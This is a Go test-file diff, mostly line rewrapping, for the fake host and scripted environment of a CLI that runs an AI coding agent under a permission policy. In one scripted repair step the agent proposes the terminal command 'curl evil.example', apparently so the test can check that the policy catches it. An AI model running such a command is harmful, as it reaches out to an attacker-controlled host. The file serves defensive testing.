@@ -34,8 +34,8 @@ func TestMain(m *testing.M) {
 	os.Exit(m.Run())
 }
 
-// fakeHost is a program around the command line that keeps everything in memory: a store, drivers that follow a script, and
-// a clock and ids that are the same in every run.
+// fakeHost is a program around the command line that keeps everything in memory: a store, drivers that follow a script,
+// and a clock and ids that are the same in every run.
 type fakeHost struct {
 	footing cli.Footing
 	scenes  []cli.Scene // of the demo
@@ -171,7 +171,8 @@ func (h *fakeHost) Open(_ context.Context, place effect.Place, o cli.Open) (*cli
 }
 
 func (h *fakeHost) Doctor(context.Context, effect.Place, settings.Config) []cli.Finding {
-	return []cli.Finding{{Name: "system", State: "ok", Key: "cli.doctor_system", Value: "test"}, {Name: "git", State: "warn", Key: "cli.doctor_no_git"}}
+	return []cli.Finding{{Name: "system", State: "ok", Key: "cli.doctor_system", Value: "test"},
+		{Name: "git", State: "warn", Key: "cli.doctor_no_git"}}
 }
 
 // Demo shows what h.scenes are.
@@ -184,10 +185,12 @@ func (h *fakeHost) Demo(_ context.Context, d cli.Demo) (cli.Sample, error) {
 }
 
 func (h *fakeHost) Agents(_ effect.Place, c settings.Config) cli.Agents {
-	infos := []cli.AgentInfo{{Name: "script", Kind: "script", State: "ready"}, {Name: "gone", Kind: "acp", State: "missing", Key: "agent.unknown", Args: []string{"gone", "script"}}}
+	infos := []cli.AgentInfo{{Name: "script", Kind: "script", State: "ready"},
+		{Name: "gone", Kind: "acp", State: "missing", Key: "agent.unknown", Args: []string{"gone", "script"}}}
 	infos = append(infos, h.agents...)
 	for name, l := range h.logins {
-		i := cli.AgentInfo{Name: name, Kind: "headless", State: "ready", Version: l.Version, Path: l.Path, Account: l.Account, Plan: l.Plan, Login: l.Kind, Model: l.Model}
+		i := cli.AgentInfo{Name: name, Kind: "headless", State: "ready", Version: l.Version, Path: l.Path,
+			Account: l.Account, Plan: l.Plan, Login: l.Kind, Model: l.Model}
 		if c.Agents[name].Login != l.Account {
 			i.State, i.Key, i.Args, i.Offer = "unset", "login.not_agreed", []string{l.Title, l.Account, name}, true
 		}
@@ -206,9 +209,11 @@ func (h *fakeHost) Agents(_ effect.Place, c settings.Config) cli.Agents {
 		Servers: func() []cli.ServerInfo { return h.servers }, Ask: h.offer,
 		List: func(context.Context, string) []cli.AgentInfo { return infos },
 		Check: func(_ context.Context, c cli.Check) (string, error) {
-			c.Stage(cli.Stage{Name: "found", Took: 1200 * time.Millisecond, Saw: []cli.Phrase{{Key: "check.saw_embedded"}, {Key: "check.saw_requests", Args: []string{"3"}}}})
+			c.Stage(cli.Stage{Name: "found", Took: 1200 * time.Millisecond,
+				Saw: []cli.Phrase{{Key: "check.saw_embedded"}, {Key: "check.saw_requests", Args: []string{"3"}}}})
 			if c.Agent == "gone" {
-				c.Stage(cli.Stage{Name: "edited", Took: 61 * time.Second, Err: pawl.Fail(pawl.CodeModel, "check.not_edited", "sum.go"), Said: []string{"All done.\x1b[2J"}})
+				c.Stage(cli.Stage{Name: "edited", Took: 61 * time.Second,
+					Err: pawl.Fail(pawl.CodeModel, "check.not_edited", "sum.go"), Said: []string{"All done.\x1b[2J"}})
 			}
 			return "", nil
 		},
@@ -222,10 +227,16 @@ func (h *fakeHost) Edit(_ context.Context, path string) error { return h.edit(pa
 
 func (h *fakeHost) Tools() []kernel.Tool {
 	tool := func(name string, idempotent bool, p policy.Permission) kernel.Tool {
-		info := effect.ToolInfo{Name: name, Version: "1.0.0", Description: "the tool " + name, ArgsSchema: json.RawMessage(`{"type":"object"}`), Permissions: []policy.Permission{p}, Idempotent: idempotent}
-		return kernel.Tool{Info: info, Request: func(args json.RawMessage) (policy.Request, error) { return request(info, args) }}
+		info := effect.ToolInfo{Name: name, Version: "1.0.0", Description: "the tool " + name,
+			ArgsSchema: json.RawMessage(`{"type":"object"}`), Permissions: []policy.Permission{p},
+			Idempotent: idempotent}
+		return kernel.Tool{Info: info, Request: func(args json.RawMessage) (policy.Request,
+			error) {
+			return request(info, args)
+		}}
 	}
-	return []kernel.Tool{tool("read_file", true, policy.FSRead), tool("write_file", false, policy.FSWrite), tool("run_terminal_cmd", false, policy.ProcExec)}
+	return []kernel.Tool{tool("read_file", true, policy.FSRead), tool("write_file", false, policy.FSWrite),
+		tool("run_terminal_cmd", false, policy.ProcExec)}
 }
 
 // request reduces a call of a tool of the host to what the policy judges.
@@ -261,9 +272,11 @@ type world struct {
 }
 
 func (w *world) options(progress func(effect.Effect, string)) runner.Options {
-	o := runner.Options{Owner: "test/1/abc", Drivers: map[effect.Kind]runner.Driver{}, Tools: map[string]runner.Driver{}, Progress: progress, Poll: time.Millisecond}
+	o := runner.Options{Owner: "test/1/abc", Drivers: map[effect.Kind]runner.Driver{},
+		Tools: map[string]runner.Driver{}, Progress: progress, Poll: time.Millisecond}
 	for _, k := range []effect.Kind{
-		effect.KindContext, effect.KindPlan, effect.KindRepair, effect.KindWorktree, effect.KindCheckpoint, effect.KindRestore, effect.KindVerify,
+		effect.KindContext, effect.KindPlan, effect.KindRepair, effect.KindWorktree, effect.KindCheckpoint,
+		effect.KindRestore, effect.KindVerify,
 		effect.KindGates, effect.KindLand, effect.KindRevert, effect.KindCleanup, effect.KindArchive, effect.KindTest,
 	} {
 		o.Drivers[k] = w
@@ -290,24 +303,28 @@ func (w *world) Do(ctx context.Context, e effect.Effect, progress effect.Progres
 		return effect.Succeeded(effect.WorktreeResult{Tree: "t0"})
 	case effect.KindCheckpoint:
 		spec, _ := effect.Decode[effect.CheckpointSpec](e.Spec)
-		return effect.Succeeded(effect.CheckpointResult{Name: spec.Name, Tree: cmp.Or(w.tree, "t0"), Commit: "k", Ref: "refs/pawl/" + spec.Name})
+		return effect.Succeeded(effect.CheckpointResult{Name: spec.Name, Tree: cmp.Or(w.tree, "t0"), Commit: "k",
+			Ref: "refs/pawl/" + spec.Name})
 	case effect.KindTool:
 		return w.call(ctx, e, progress)
 	case effect.KindVerify, effect.KindGates, effect.KindTest:
 		return w.verify(e.Kind)
 	case effect.KindRepair:
 		if w.unknown {
-			return effect.Succeeded(effect.RepairResult{Why: "script.repair_none", Final: true, Said: effect.Said{Agent: "script"}})
+			return effect.Succeeded(effect.RepairResult{Why: "script.repair_none", Final: true,
+				Said: effect.Said{Agent: "script"}})
 		}
 		tool, args := "write_file", `{"path":"b.txt"}`
 		if w.repair != "" {
 			tool, args = w.repair, `{"command":"curl evil.example"}`
 		}
-		return effect.Succeeded(effect.RepairResult{Steps: []plan.Step{step("x", tool, args)}, Why: "script.repair_format", Said: effect.Said{Agent: "script"}})
+		return effect.Succeeded(effect.RepairResult{Steps: []plan.Step{step("x", tool, args)},
+			Why: "script.repair_format", Said: effect.Said{Agent: "script"}})
 	case effect.KindLand:
 		return w.land()
 	case effect.KindRevert:
-		return effect.Succeeded(effect.LandResult{Outcome: effect.Landed, Commit: strings.Repeat("2", 40), Tree: "t0", Branch: "main"})
+		return effect.Succeeded(effect.LandResult{Outcome: effect.Landed, Commit: strings.Repeat("2", 40), Tree: "t0",
+			Branch: "main"})
 	case effect.KindCleanup:
 		return effect.Succeeded(effect.CleanupResult{Performed: []string{"worktree"}})
 	case effect.KindRestore:
@@ -321,7 +338,8 @@ func restored(e effect.Effect) effect.Receipt {
 	spec, _ := effect.Decode[effect.RestoreSpec](e.Spec)
 	r := effect.RestoreResult{Before: spec.Expect, After: spec.Target}
 	if n := len(spec.Spans); n > 0 {
-		r = effect.RestoreResult{Before: spec.Spans[n-1].After, After: spec.Spans[0].Before, Cut: []string{"cut.txt"}, Kept: []string{"mine.txt"}}
+		r = effect.RestoreResult{Before: spec.Spans[n-1].After, After: spec.Spans[0].Before, Cut: []string{"cut.txt"},
+			Kept: []string{"mine.txt"}}
 	}
 	return effect.Succeeded(r)
 }
@@ -351,7 +369,8 @@ func (w *world) call(ctx context.Context, e effect.Effect, progress effect.Progr
 // found is what there is to know of the project.
 func (w *world) found() effect.ContextResult {
 	return effect.ContextResult{
-		Head: "c0", Branch: "main", Ecosystems: []string{"go"}, Files: 1, Needs: w.needs, Tree: w.tree, Checks: append(w.leftOut(), effect.Check{Name: "tests", Command: "go test ./...", Level: 2}),
+		Head: "c0", Branch: "main", Ecosystems: []string{"go"}, Files: 1, Needs: w.needs, Tree: w.tree,
+		Checks: append(w.leftOut(), effect.Check{Name: "tests", Command: "go test ./...", Level: 2}),
 	}
 }
 
@@ -364,13 +383,15 @@ func (w *world) leftOut() []effect.Check {
 }
 
 func (w *world) verify(kind effect.Kind) effect.Receipt {
-	out := effect.CheckOutcome{Check: effect.Check{Name: "tests", Command: "go test ./..."}, Status: effect.CheckPassed, DurationMS: 1200}
+	out := effect.CheckOutcome{Check: effect.Check{Name: "tests", Command: "go test ./..."}, Status: effect.CheckPassed,
+		DurationMS: 1200}
 	left := &w.failChecks
 	if kind == effect.KindGates {
 		out.Check, left = effect.Check{Name: "doctor"}, &w.failGates
 	}
 	if len(w.needs) > 0 && kind != effect.KindGates {
-		out.Status, out.ExitCode, out.Environment, out.Output = effect.CheckFailed, 1, true, "module lookup disabled by GOPROXY=off"
+		out.Status, out.ExitCode, out.Environment, out.Output = effect.CheckFailed, 1, true,
+			"module lookup disabled by GOPROXY=off"
 	}
 	if *left > 0 {
 		*left--
@@ -386,27 +407,34 @@ func (w *world) verify(kind effect.Kind) effect.Receipt {
 		outcomes[0].Fingerprint = "f"
 	}
 	return effect.Succeeded(effect.VerifyResult{
-		Outcomes: outcomes, Passed: out.Status == effect.CheckPassed, Tree: "t1t1t1t1t1t1t1", TreeAfter: "t1t1t1t1t1t1t1", Fingerprint: fmt.Sprint(*left),
+		Outcomes: outcomes, Passed: out.Status == effect.CheckPassed, Tree: "t1t1t1t1t1t1t1",
+		TreeAfter: "t1t1t1t1t1t1t1", Fingerprint: fmt.Sprint(*left),
 	})
 }
 
 func (w *world) land() effect.Receipt {
-	files := []effect.FileStat{{Path: "a.txt", Status: "M", Added: 2, Removed: 1}, {Path: "说明.md", Status: "A", Added: 10}}
+	files := []effect.FileStat{{Path: "a.txt", Status: "M", Added: 2, Removed: 1},
+		{Path: "说明.md", Status: "A", Added: 10}}
 	if w.conflict {
-		return effect.Succeeded(effect.LandResult{Outcome: effect.Kept, Commit: strings.Repeat("1", 40), Tree: "t1", Branch: "pawl/T-001", Reason: "land.moved", Command: "git merge pawl/T-001", Files: files})
+		return effect.Succeeded(effect.LandResult{Outcome: effect.Kept, Commit: strings.Repeat("1", 40), Tree: "t1",
+			Branch: "pawl/T-001", Reason: "land.moved", Command: "git merge pawl/T-001", Files: files})
 	}
-	return effect.Succeeded(effect.LandResult{Outcome: effect.Landed, Commit: strings.Repeat("1", 40), Tree: "t1", Branch: "main", Files: files})
+	return effect.Succeeded(effect.LandResult{Outcome: effect.Landed, Commit: strings.Repeat("1", 40), Tree: "t1",
+		Branch: "main", Files: files})
 }
 
 func step(id, tool, args string) plan.Step {
-	return plan.Step{StepID: id, Title: "step " + id, Intent: "because of " + id, Status: plan.Pending, ToolCalls: []plan.ToolCallTemplate{{Name: tool, ArgsHint: json.RawMessage(args)}}}
+	return plan.Step{StepID: id, Title: "step " + id, Intent: "because of " + id, Status: plan.Pending,
+		ToolCalls: []plan.ToolCallTemplate{{Name: tool, ArgsHint: json.RawMessage(args)}}}
 }
 
 func twoSteps() plan.Plan {
 	return plan.Plan{
 		Goal: "do the work", Constraints: []string{"keep it small"}, RiskLevel: pawl.RiskLow,
-		Steps:        []plan.Step{step("s1", "write_file", `{"path":"a.txt","content":"one\ntwo\n"}`), step("s2", "run_terminal_cmd", `{"command":"go generate ./..."}`)},
-		Verification: plan.VerificationPolicy{Mode: plan.VerifyTest, Commands: []string{}, Required: true, StopOnFail: true},
+		Steps: []plan.Step{step("s1", "write_file", `{"path":"a.txt","content":"one\ntwo\n"}`),
+			step("s2", "run_terminal_cmd", `{"command":"go generate ./..."}`)},
+		Verification: plan.VerificationPolicy{Mode: plan.VerifyTest, Commands: []string{}, Required: true,
+			StopOnFail: true},
 	}
 }
 
@@ -430,7 +458,8 @@ type console struct {
 
 func newConsole(t *testing.T, lang string) *console {
 	h := newHost(t)
-	return &console{t: t, host: h, env: map[string]string{"USER": "ada", "HOME": filepath.Join(h.dir, "home"), "LANG": lang, "PAWL_RETRY_KIND": "none"}}
+	return &console{t: t, host: h, env: map[string]string{"USER": "ada", "HOME": filepath.Join(h.dir, "home"),
+		"LANG": lang, "PAWL_RETRY_KIND": "none"}}
 }
 
 // run runs one command line and returns its exit status and what it wrote.
